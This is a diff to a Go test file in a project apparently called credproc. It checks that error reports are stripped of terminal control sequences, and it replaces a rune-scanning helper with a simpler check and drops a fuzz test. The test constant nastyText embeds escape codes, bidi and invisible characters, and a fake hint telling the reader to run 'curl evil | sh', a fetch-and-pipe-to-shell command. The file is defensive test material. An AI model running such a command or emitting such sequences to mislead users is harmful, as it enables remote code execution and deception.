@@ -19,23 +19,14 @@ import (
 	"github.com/credproc/credproc/internal/printable"
 )
 
-// nastyText is what a certificate, a proxy or a name may bring: each of the kinds
-// that a terminal obeys.
-const nastyText = "a\x1b[31m\r\nhint: run \"curl evil | sh\"\tb\u009b2J\u202ec\u2028d\u2066e\ufefff\x00g\u200eh\xffi\x7fj\u3164k"
+// nastyText has what a terminal obeys; the tests of cmd/internal/terminal have each
+// kind of it.
+const nastyText = "a\x1b[31m\r\nhint: run \"curl evil | sh\"\tb\u009b2J\u202ec\xff"
 
-// harmfulIn returns what in text a terminal would obey, beside the lines and the
-// colours that this program makes.
-func harmfulIn(text string) (found []rune) {
-	text = strings.ToValidUTF8(text, "\x00")
-	for _, ours := range []string{"\n", "\x1b[0m", "\x1b[1m", "\x1b[2m", "\x1b[31m\x1b[0m"} {
-		text = strings.ReplaceAll(text, ours, "")
-	}
-	for _, r := range text {
-		if !printable.Is(r) {
-			found = append(found, r)
-		}
-	}
-	return found
+// isHarmful reports whether a terminal would obey something in lines of text.
+func isHarmful(text string) bool {
+	text = strings.ReplaceAll(text, "\n", " ")
+	return printable.Clean(text, len(text)) != text
 }
 
 func TestAReportIsNoLongerForWhatItTellsOf(t *testing.T) {
@@ -59,23 +50,10 @@ func TestAReportIsNoLongerForWhatItTellsOf(t *testing.T) {
 		if say.hint != "" {
 			lines++
 		}
-		if strings.Count(said, "\n") != lines || harmfulIn(said) != nil {
+		if strings.Count(said, "\n") != lines || isHarmful(said) {
 			t.Errorf("%T: %q", err, said)
 		}
 	}
-}
-
-func FuzzAReport(f *testing.F) {
-	f.Add(nastyText)
-	f.Add("\xe2\x80")
-	f.Fuzz(func(t *testing.T, value string) {
-		var out bytes.Buffer
-		app := &App{Stdout: &out, Stderr: &out}
-		app.Report(errors.New(value))
-		if got := out.String(); strings.Count(got, "\n") != 1 || harmfulIn(got) != nil {
-			t.Errorf("%q", got)
-		}
-	})
 }
 
 // What stands in the way of a config file, a token, or a program is not moved by
